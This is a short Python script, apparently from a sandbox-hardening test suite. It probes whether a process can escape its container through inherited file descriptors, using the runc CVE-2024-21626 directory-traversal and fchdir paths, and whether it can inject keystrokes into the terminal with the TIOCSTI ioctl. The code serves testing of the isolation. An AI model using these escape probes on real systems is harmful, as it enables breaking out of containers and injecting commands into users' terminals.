"""Tries to get somewhere by the descriptors that it was given (runc: CVE-2024-21626)."""
import fcntl
import os

from attempts import attempt

for number in (0, 1, 2):
    attempt(f"step out of {number}", lambda: os.open(f"/proc/self/fd/{number}/..", os.O_DIRECTORY | os.O_RDONLY))
    attempt(f"change to {number}", lambda: os.fchdir(number))
    attempt(f"type into the terminal {number}", lambda: fcntl.ioctl(number, 0x5412, b"x"))
